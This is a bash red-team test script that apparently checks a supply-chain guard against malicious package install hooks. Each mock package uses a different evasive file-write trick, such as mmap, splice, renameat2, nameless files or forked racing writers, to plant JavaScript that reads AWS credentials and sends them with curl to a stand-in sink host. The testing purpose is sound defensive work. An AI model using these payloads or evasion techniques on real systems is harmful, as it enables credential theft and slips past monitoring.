#!/bin/bash
# R55: ways to leave code elsewhere without a plain write of a plain file: by a mapping, by calls
# that copy inside the kernel, by a file without a name, through names that the file got before,
# from a thread. What the project then runs is the package's.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R55 'ways to write what others run'
RT_HONEST=(ms) RT_SCRIPTED=()
command -v python3 >/dev/null || { echo 'SKIP: python3 is not installed'; exit 77; }
AT=/tmp/${LAB##*/}-r55
LOOT=.aws/credentials
js() { # NAME
	printf "require('child_process').execFileSync('curl', ['-s', '--data-binary', \
require('fs').readFileSync('%s'), 'http://%s/%s'])" "$RT_HOME/$LOOT" "$RT_SINK" "$1"
}
USES=()
# way NAME PYTHON [USE]: the package's script runs PYTHON, where `code` is what is to be planted as
# `to`, with its length n; the project runs that.
way() {
	local dir=$LAB/packages/$1
	mkdir -p "$dir" && js "$1" >"$dir/code"
	printf '%s\n' 'import os, sys, mmap, threading, ctypes' 'code = open("code", "rb").read()' \
		'n = len(code)' "to = '$AT-$1.js'" 'libc = ctypes.CDLL(None, use_errno=True)' \
		'flags = os.O_RDWR | os.O_CREAT' "$2" >"$dir/way.py"
	rt_package "$1" 1.0.0 - postinstall 'python3 way.py'
	USES+=("${3:-node $AT-$1.js}")
}
way mapped-x 'f = os.open(to, flags, 0o644); os.ftruncate(f, n)
m = mmap.mmap(f, n); os.close(f); m[:] = code'
way kept-mapped-x 'import time
f = os.open(to, flags, 0o644); os.ftruncate(f, n); m = mmap.mmap(f, n); os.close(f)
if os.fork() == 0:
    os.setsid(); os.closerange(0, 3)
    for i in range(200):
        time.sleep(0.05)
        m[:] = code
    os._exit(0)' "sh -c 'for i in 1 2 3 4 5 6 7 8; do : >$AT-none; sleep 0.1; done;
	node $AT-kept-mapped-x.js'"
way range-x 's = os.open("code", os.O_RDONLY); f = os.open(to, flags, 0o644)
os.copy_file_range(s, f, n)'
way sendfile-x 's = os.open("code", os.O_RDONLY); f = os.open(to, flags, 0o644)
os.sendfile(f, s, 0, n)'
way splice-x 's = os.open("code", os.O_RDONLY); f = os.open(to, flags, 0o644); r, w = os.pipe()
libc.splice(s, None, w, None, n, 0); libc.splice(r, None, f, None, n, 0)'
way nameless-x 'f = os.open("/tmp", os.O_RDWR | os.O_TMPFILE, 0o644); os.write(f, code)
libc.linkat(-100, b"/proc/self/fd/%d" % f, -100, to.encode(), 0x400)'
way late-own-x 'open("own.js", "w").close(); os.link("own.js", to)
open("own.js", "wb").write(code)'
way linked-in-x 'open(to, "w").close(); os.link(to, "in.js"); open("in.js", "wb").write(code)'
way moved-in-x 'open(to, "w").close(); os.rename(to, "in.js"); open("in.js", "wb").write(code)
os.link("in.js", to)'
way exchanged-x 'open(to, "w").close(); os.link("code", "c2")
libc.renameat2(-100, b"c2", -100, to.encode(), 2)'
way thread-x 'def w():
    with open(to, "wb") as f: f.write(code)
t = threading.Thread(target=w); t.start(); t.join()'
way truncated-x 'open(to, "wb").write(b" " * 4096 + code); f = os.open(to, os.O_RDWR)
os.ftruncate(f, 0); os.pwrite(f, code, 0)'
way chain-x 'd = to + ".d"; os.makedirs(d + "/a/b"); open(d + "/a/b/c", "wb").write(code)
os.rename(d + "/a/b/c", d + "/a/e"); os.rename(d + "/a", d + "/f"); os.rename(d, d + "2")
os.link(d + "2/f/e", d + "2/g"); os.rename(d + "2/g", to)'
way reopened-x 'f = os.open(to, os.O_RDONLY | os.O_CREAT, 0o644)
g = os.open("/proc/self/fd/%d" % f, os.O_WRONLY); os.write(g, code)'
# The project empties the file and fills it honestly, while the package still holds it.
way holder-x 'import time
f = os.open(to, flags, 0o666); os.write(f, b"//"); os.fchmod(f, 0o666)
if os.fork() == 0:
    os.setsid(); os.closerange(0, 3)
    for i in range(400):
        time.sleep(0.02)
        os.pwrite(f, code, 0)
    os._exit(0)' "sh -c 'printf // >$AT-holder-x.js; sleep 0.5; node $AT-holder-x.js'"
names=$(printf '%s\n' "${RT_ATTACKERS[@]%% *}" | sort)

rt_setup() {
	rm -rf "$AT"-*
	printf '%s\n' "${USES[@]//$'\n'/ }" >"$LAB/uses"
	lab_as_user "$RT_PROJECT" sh -c 'sed "s/.*/( & )/" >use.sh' <"$LAB/uses"
	jq '.scripts = {prepare: "sh use.sh; true"}' "$RT_PROJECT/package.json" >"$LAB/p.json" &&
		cat "$LAB/p.json" >"$RT_PROJECT/package.json"
}
taken() { rt_requests | grep -o '/[a-z-]*-x' | tr -d / | sort -u; }

rt_control
rt_is 'the code of each was run' "$(taken)" "$names"

if rt_guarded; then
	rt_is 'what got through' "$(taken)" ''
	rt_is 'exit status' "$RT_STATUS" 86
	for name in $names; do
		rt_ok "$name is accused" rt_events wormsign.verdict=kill package.name="$name"
	done
	rt_no_innocent_accused
fi
lab_kill_survivors
rm -rf "$AT"-*
rt_end
